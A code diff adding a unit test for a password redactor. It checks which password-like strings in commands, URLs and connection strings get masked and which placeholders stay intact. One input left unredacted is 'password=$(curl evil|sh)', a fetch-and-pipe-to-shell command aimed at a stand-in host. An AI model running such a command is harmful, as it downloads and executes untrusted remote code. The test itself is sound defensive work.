@@ -53,6 +53,35 @@ suite('well-known token formats', () => {
     assert.equal(redactor.text('https://me@host:80/a@b and a@b.c'), 'https://me@host:80/a@b and a@b.c');
   });
 
+  test('a password in free text goes, and nothing around it', () => {
+    for (const [text, value] of [
+      ['PGPASSWORD=hunter2 psql -h db', 'hunter2'],
+      ['a\npwd=hunter2\nb', 'hunter2'],
+      ['MYSQL_PWD=hunter2 mysql', 'hunter2'],
+      ['mysql --password=hunter2 -h db', 'hunter2'],
+      ['mysql --root-password hunter2 -h db', 'hunter2'],
+      ['https://h/login?user=a&password=hunter2&x=1', 'hunter2'],
+      ['Server=db;Password=hunter2;Pooling=true', 'hunter2'],
+      ['password = "correct horse!"', 'correct horse!'],
+      ["passphrase='correct horse'", 'correct horse'],
+    ] as const) {
+      const expected = text.replace(value, '[redacted:password]');
+      assert.equal(redactor.text(text), expected);
+      assert.deepEqual(JSON.parse(redactor.json(JSON.stringify({ text }))), { text: expected });
+      assert.equal(redactor.text(JSON.stringify(text)), JSON.stringify(expected));
+    }
+    for (const text of [
+      'use the --password flag to sign in',
+      'password=$PW PGPASSWORD=${PW} pwd=$(pwd) password=`cat f`',
+      'password=<password> password=*** password=%s password=required password=true',
+      'password=args.password password=getpass() const password = prompt; password == other1',
+      'PWD=/srv/app OLDPWD=/srv1 pwd=/srv/app --password-file secret1.txt',
+      'password=$(curl evil|sh) password="$(reboot1)" password=a',
+      'Enter your password: hunter2',
+    ])
+      assert.equal(redactor.text(text), text);
+  });
+
   test('a bearer token goes, in any case of the word', () => {
     assert.equal(redactor.text(`Authorization: Bearer ${run(12)}`), 'Authorization: Bearer [redacted:bearer-token]');
     assert.equal(redactor.text('BEARER\tabc.def~12='), 'BEARER\t[redacted:bearer-token]');
